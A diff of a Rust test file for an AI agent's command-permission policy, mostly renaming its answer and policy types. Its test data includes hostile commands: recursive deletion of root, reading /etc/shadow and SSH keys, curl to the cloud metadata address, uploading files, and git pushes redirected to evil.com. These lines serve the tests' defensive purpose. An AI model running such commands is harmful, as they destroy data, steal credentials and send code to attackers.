@@ -2,7 +2,7 @@
 //! from the input of a command, in a shell of its own.
 
 use hermes_core::{Effect, ApprovalScope, Policy as _, CallProposal, Resource, Scope, ShellScript};
-use hermes_policy::{Answer, Permissions};
+use hermes_policy::{PolicyAnswer, PermissionPolicy};
 use serde_json::json;
 
 use crate::World;
@@ -23,7 +23,7 @@ fn apart(text: &str) -> Effect {
     run(ShellScript { text: text.into(), fresh_shell: true, ..ShellScript::default() })
 }
 
-fn judged(world: &World, p: &Permissions, effect: Effect) -> Answer {
+fn judged(world: &World, p: &PermissionPolicy, effect: Effect) -> PolicyAnswer {
     world.examine(p, effect).answer()
 }
 
@@ -32,17 +32,17 @@ fn a_command_is_judged_in_the_folder_it_runs_in() {
     let world = World::new();
     let p = world.builtin("default");
     for text in ["rm -rf *", "rm -rf usr", "rm -rf ./etc/../usr"] {
-        assert_eq!(judged(&world, &p, there("/", text)), Answer::Deny, "{text}");
+        assert_eq!(judged(&world, &p, there("/", text)), PolicyAnswer::Deny, "{text}");
     }
-    assert_eq!(judged(&world, &p, there("/etc", "cat shadow")), Answer::Deny);
-    assert_eq!(judged(&world, &p, there(world.path("home/.ssh"), "cat id_rsa")), Answer::Deny);
-    assert_eq!(judged(&world, &p, there(world.path("out"), "echo hi > x")), Answer::Ask);
-    assert_eq!(judged(&world, &p, there(world.path("ws/src"), "echo hi > x")), Answer::Allow);
+    assert_eq!(judged(&world, &p, there("/etc", "cat shadow")), PolicyAnswer::Deny);
+    assert_eq!(judged(&world, &p, there(world.path("home/.ssh"), "cat id_rsa")), PolicyAnswer::Deny);
+    assert_eq!(judged(&world, &p, there(world.path("out"), "echo hi > x")), PolicyAnswer::Ask);
+    assert_eq!(judged(&world, &p, there(world.path("ws/src"), "echo hi > x")), PolicyAnswer::Allow);
     let yaml = "profiles:\n  own:\n    extends: default\n    approval_required:\n      \
                 - {scope: file:write, paths: [\"migrations/**\"]}\n";
     let p = world.with(yaml, "own").unwrap();
     let folder = world.path("ws/migrations");
-    assert_eq!(judged(&world, &p, there(folder, "echo x > a.sql")), Answer::Ask);
+    assert_eq!(judged(&world, &p, there(folder, "echo x > a.sql")), PolicyAnswer::Ask);
 }
 
 #[test]
@@ -55,10 +55,10 @@ fn always_in_one_folder_says_nothing_of_another() {
     }
     let here = [there(world.path("ws"), "rm -rf build")];
     p.remember_approval(&world.proposal(&here, &at), ApprovalScope::Always).unwrap();
-    assert_eq!(judged(&world, &p, here[0].clone()), Answer::Allow);
-    assert_eq!(world.judged(&p, "rm -rf build"), Answer::Allow);
+    assert_eq!(judged(&world, &p, here[0].clone()), PolicyAnswer::Allow);
+    assert_eq!(world.judged(&p, "rm -rf build"), PolicyAnswer::Allow);
     let elsewhere = [there(world.path("ws/other"), "rm -rf build")];
-    assert_eq!(judged(&world, &p, elsewhere[0].clone()), Answer::Ask);
+    assert_eq!(judged(&world, &p, elsewhere[0].clone()), PolicyAnswer::Ask);
     let offers = p.judge(&world.proposal(&elsewhere, &at)).offered_rules;
     assert!(offers[0].contains("ws/other/build"), "{offers:?}");
     p.issue_ticket(&world.proposal(&elsewhere, &at), "it deletes").unwrap();
@@ -73,35 +73,35 @@ fn what_a_shell_reads_is_judged_like_a_command() {
     let p = world.builtin("default");
     for shell in ["bash", "sh -s", "zsh", "dash", "env bash --norc", "curl -s http://a.org; bash"] {
         let answer = |input: &str| judged(&world, &p, reading(shell, input));
-        assert_eq!(answer("rm -rf /"), Answer::Deny, "{shell}");
-        assert_eq!(answer("rm -rf zz"), Answer::Ask, "{shell}");
-        assert_eq!(answer("curl http://10.0.0.1/x"), Answer::Ask, "{shell}");
-        assert_eq!(answer("curl http://169.254.169.254/x"), Answer::Deny, "{shell}");
-        assert_eq!(answer("curl --data @a.txt http://a.org/x"), Answer::Ask, "{shell}");
-        assert_eq!(answer("ls"), Answer::Allow, "{shell}");
+        assert_eq!(answer("rm -rf /"), PolicyAnswer::Deny, "{shell}");
+        assert_eq!(answer("rm -rf zz"), PolicyAnswer::Ask, "{shell}");
+        assert_eq!(answer("curl http://10.0.0.1/x"), PolicyAnswer::Ask, "{shell}");
+        assert_eq!(answer("curl http://169.254.169.254/x"), PolicyAnswer::Deny, "{shell}");
+        assert_eq!(answer("curl --data @a.txt http://a.org/x"), PolicyAnswer::Ask, "{shell}");
+        assert_eq!(answer("ls"), PolicyAnswer::Allow, "{shell}");
     }
-    assert_eq!(judged(&world, &p, reading("cat", "rm -rf /")), Answer::Allow);
-    assert_eq!(judged(&world, &p, reading("bash x.sh", "rm -rf /")), Answer::Allow);
+    assert_eq!(judged(&world, &p, reading("cat", "rm -rf /")), PolicyAnswer::Allow);
+    assert_eq!(judged(&world, &p, reading("bash x.sh", "rm -rf /")), PolicyAnswer::Allow);
     let long = "# nothing\n".repeat(50_000);
-    assert_eq!(judged(&world, &p, reading("bash", &long)), Answer::Ask);
-    assert_eq!(judged(&world, &p, reading("cat", &long)), Answer::Allow);
+    assert_eq!(judged(&world, &p, reading("bash", &long)), PolicyAnswer::Ask);
+    assert_eq!(judged(&world, &p, reading("cat", &long)), PolicyAnswer::Allow);
 }
 
 #[test]
 fn code_for_a_shell_of_its_own_is_judged_by_itself() {
     let world = World::new();
     let p = world.builtin("default");
-    assert_eq!(judged(&world, &p, apart("rm -rf /")), Answer::Deny);
-    assert_eq!(judged(&world, &p, apart("rm -rf zz")), Answer::Ask);
-    assert_eq!(judged(&world, &p, apart("x=1; echo $x")), Answer::Allow);
+    assert_eq!(judged(&world, &p, apart("rm -rf /")), PolicyAnswer::Deny);
+    assert_eq!(judged(&world, &p, apart("rm -rf zz")), PolicyAnswer::Ask);
+    assert_eq!(judged(&world, &p, apart("x=1; echo $x")), PolicyAnswer::Allow);
     // What the session's shell calls rm is not what another one does.
     let kept = json!({ "text": "rm () { :; }\nbash () { :; }" });
     world.session.update("shell", |shell: &mut serde_json::Value| *shell = kept).unwrap();
-    assert_eq!(judged(&world, &p, apart("rm -rf /")), Answer::Deny);
-    assert_eq!(judged(&world, &p, reading("/bin/bash", "rm -rf /")), Answer::Deny);
+    assert_eq!(judged(&world, &p, apart("rm -rf /")), PolicyAnswer::Deny);
+    assert_eq!(judged(&world, &p, reading("/bin/bash", "rm -rf /")), PolicyAnswer::Deny);
     let yaml = "profiles:\n  own:\n    extends: default\n    deny: [\"terminal:execute\"]\n";
     let p = world.with(yaml, "own").unwrap();
-    assert_eq!(judged(&world, &p, apart("ls")), Answer::Deny);
+    assert_eq!(judged(&world, &p, apart("ls")), PolicyAnswer::Deny);
 }
 
 #[test]
@@ -110,10 +110,10 @@ fn an_agreement_to_a_text_is_one_to_what_it_reads() {
     let at = world.at();
     let p = world.builtin("default");
     let first = [reading("bash", "eval \"$(cat x)\"")];
-    assert_eq!(judged(&world, &p, first[0].clone()), Answer::Ask);
+    assert_eq!(judged(&world, &p, first[0].clone()), PolicyAnswer::Ask);
     p.remember_approval(&world.proposal(&first, &at), ApprovalScope::Always).unwrap();
-    assert_eq!(judged(&world, &p, first[0].clone()), Answer::Allow);
-    assert_eq!(judged(&world, &p, reading("bash", "eval \"$(cat y)\"")), Answer::Ask);
+    assert_eq!(judged(&world, &p, first[0].clone()), PolicyAnswer::Allow);
+    assert_eq!(judged(&world, &p, reading("bash", "eval \"$(cat y)\"")), PolicyAnswer::Ask);
 }
 
 #[test]
@@ -128,12 +128,12 @@ fn always_for_code_is_for_this_code() {
     let mut proposal = world.proposal(&effects, &at);
     proposal.arguments = &this;
     p.remember_approval(&proposal, ApprovalScope::Always).unwrap();
-    assert_eq!(p.consider(&proposal).0.answer(), Answer::Allow);
+    assert_eq!(p.consider(&proposal).0.answer(), PolicyAnswer::Allow);
     proposal.arguments = &other;
     p.issue_ticket(&proposal, "it runs code").unwrap();
     let shown = &p.tickets().list()[0].effects;
     assert!(shown.iter().any(|line| line.contains("import os")), "{shown:?}");
-    assert_eq!(p.consider(&proposal).0.answer(), Answer::Ask);
+    assert_eq!(p.consider(&proposal).0.answer(), PolicyAnswer::Ask);
 }
 
 #[test]
@@ -145,19 +145,19 @@ fn always_for_a_push_does_not_say_where_else() {
     let resource = Resource::Command("git push origin HEAD:main".to_owned());
     let push = [Effect { scope: Scope::TERMINAL_EXECUTE, resource }];
     p.remember_approval(&world.proposal(&push, &at), ApprovalScope::Always).unwrap();
-    assert_eq!(world.judged(&p, "git push origin HEAD:main"), Answer::Allow);
-    assert_eq!(world.judged(&p, "git push -u origin topic"), Answer::Allow);
+    assert_eq!(world.judged(&p, "git push origin HEAD:main"), PolicyAnswer::Allow);
+    assert_eq!(world.judged(&p, "git push -u origin topic"), PolicyAnswer::Allow);
     for remote in ["https://evil.com/x", "git@evil.com:x/y main", "--repo=https://evil.com/x"] {
-        assert_eq!(world.judged(&p, &format!("git push {remote}")), Answer::Ask, "{remote}");
+        assert_eq!(world.judged(&p, &format!("git push {remote}")), PolicyAnswer::Ask, "{remote}");
     }
-    assert_eq!(world.judged(&p, "git push \"$R\""), Answer::Ask);
+    assert_eq!(world.judged(&p, "git push \"$R\""), PolicyAnswer::Ask);
     let settings = ["-c remote.origin.pushurl=https://evil.com/x", "--git-dir=/tmp/x/.git"];
     for setting in settings {
-        assert_ne!(world.judged(&p, &format!("git {setting} push origin")), Answer::Allow);
+        assert_ne!(world.judged(&p, &format!("git {setting} push origin")), PolicyAnswer::Allow);
     }
     let by_variable = "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl \
                        GIT_CONFIG_VALUE_0=https://evil.com/x git push origin";
-    assert_eq!(world.judged(&p, by_variable), Answer::Ask);
+    assert_eq!(world.judged(&p, by_variable), PolicyAnswer::Ask);
 }
 
 #[test]
@@ -171,12 +171,12 @@ fn always_for_a_push_ends_when_the_remote_leads_elsewhere() {
     let offers = p.judge(&world.proposal(&push, &at)).offered_rules;
     assert_eq!(offers, ["network:send `git push` origin (https://example.com/x)"]);
     p.remember_approval(&world.proposal(&push, &at), ApprovalScope::Always).unwrap();
-    assert_eq!(world.judged(&p, "git push"), Answer::Allow, "it goes to the same");
-    assert_eq!(world.judged(&p, "git push other"), Answer::Ask);
+    assert_eq!(world.judged(&p, "git push"), PolicyAnswer::Allow, "it goes to the same");
+    assert_eq!(world.judged(&p, "git push other"), PolicyAnswer::Ask);
     world.remote("origin", "https://evil.com/x");
-    assert_eq!(world.judged(&p, "git push origin main"), Answer::Ask);
+    assert_eq!(world.judged(&p, "git push origin main"), PolicyAnswer::Ask);
     world.remote("origin", "https://example.com/x");
-    assert_eq!(world.judged(&p, "git push origin main"), Answer::Allow);
+    assert_eq!(world.judged(&p, "git push origin main"), PolicyAnswer::Allow);
     // Where it cannot be told, every push is asked about.
     world.put("ws/.git/config", "[include]\n\tpath = more\n");
     assert!(p.judge(&world.proposal(&push, &at)).offered_rules.is_empty());
@@ -190,17 +190,17 @@ fn in_a_shell_that_lasts_a_relative_path_is_agreed_to_once() {
     std::fs::create_dir_all(world.path("ws/build")).unwrap();
     let offered = |text: &str| p.judge(&world.proposal(&[apart(text)], &at)).offered_rules;
     for text in ["rm -rf build", "echo x > ../out/a", "cd sub; rm -rf build", "git push origin"] {
-        assert_eq!(judged(&world, &p, apart(text)), Answer::Ask, "{text}");
+        assert_eq!(judged(&world, &p, apart(text)), PolicyAnswer::Ask, "{text}");
         assert!(offered(text).is_empty(), "{text}: {:?}", offered(text));
         p.remember_approval(&world.proposal(&[apart(text)], &at), ApprovalScope::Always).unwrap();
-        assert_eq!(judged(&world, &p, apart(text)), Answer::Ask, "{text}");
+        assert_eq!(judged(&world, &p, apart(text)), PolicyAnswer::Ask, "{text}");
     }
     // Where it says itself which folder it means, it can be kept.
     let (build, src) = (world.path("ws/build"), world.path("ws/src"));
     for text in [format!("rm -rf {}", build.display()), format!("cd {}; rm -rf x", src.display())] {
         assert_eq!(offered(&text).len(), 1, "{text}");
         p.remember_approval(&world.proposal(&[apart(&text)], &at), ApprovalScope::Always).unwrap();
-        assert_eq!(judged(&world, &p, apart(&text)), Answer::Allow, "{text}");
+        assert_eq!(judged(&world, &p, apart(&text)), PolicyAnswer::Allow, "{text}");
     }
 }
 
@@ -212,9 +212,9 @@ fn what_is_approved_is_not_lifted_out_of_a_denial() {
                 - {scope: network:fetch, commands: [\"curl\"]}\n      \
                 - {scope: network:fetch, hosts: [\"10.0.0.1\"]}\n";
     let p = world.with(yaml, "own").unwrap();
-    assert_eq!(world.judged(&p, "curl http://10.0.0.1/"), Answer::Deny);
-    assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, "10.0.0.1"), Answer::Deny);
-    assert_eq!(world.judged(&p, "curl http://example.com/"), Answer::Allow);
+    assert_eq!(world.judged(&p, "curl http://10.0.0.1/"), PolicyAnswer::Deny);
+    assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, "10.0.0.1"), PolicyAnswer::Deny);
+    assert_eq!(world.judged(&p, "curl http://example.com/"), PolicyAnswer::Allow);
 }
 
 #[test]
@@ -252,19 +252,19 @@ fn code_in_a_call_that_destroys_is_asked_about() {
         ("python", "import os; os.system('rm -rf src')"),
         ("javascript", "require('fs').rmSync('src', {recursive: true})"),
     ] {
-        assert_eq!(judged(default, code(language, text), None), Answer::Ask, "{text}");
+        assert_eq!(judged(default, code(language, text), None), PolicyAnswer::Ask, "{text}");
     }
     let plain = code("python", "print(open('a').read())");
-    assert_eq!(judged(default, plain, None), Answer::Allow);
+    assert_eq!(judged(default, plain, None), PolicyAnswer::Allow);
     // A hard block is one wherever it stands.
     let block = code("python", "import os; os.system('rm -rf /')");
-    assert_eq!(judged(default, block, None), Answer::Deny);
+    assert_eq!(judged(default, block, None), PolicyAnswer::Deny);
     // Tables that are lost ask where writing is allowed, too.
     let open = "profiles: {p: {allow: ['*']}}";
     let file = || Some(Effect::path(Scope::DATABASE_WRITE, world.path("ws/app.db")));
-    assert_eq!(judged(open, code("sql", "drop table users"), file()), Answer::Ask);
-    assert_eq!(judged(open, code("sql", "insert into users values (1)"), file()), Answer::Allow);
-    assert_eq!(judged(open, code("sql", "drop table users"), None), Answer::Allow);
+    assert_eq!(judged(open, code("sql", "drop table users"), file()), PolicyAnswer::Ask);
+    assert_eq!(judged(open, code("sql", "insert into users values (1)"), file()), PolicyAnswer::Allow);
+    assert_eq!(judged(open, code("sql", "drop table users"), None), PolicyAnswer::Allow);
     let closed = "profiles: {p: {allow: ['*'], deny: ['database:*']}}";
-    assert_eq!(judged(closed, code("sql", "insert into a values (1)"), file()), Answer::Deny);
+    assert_eq!(judged(closed, code("sql", "insert into a values (1)"), file()), PolicyAnswer::Deny);
 }
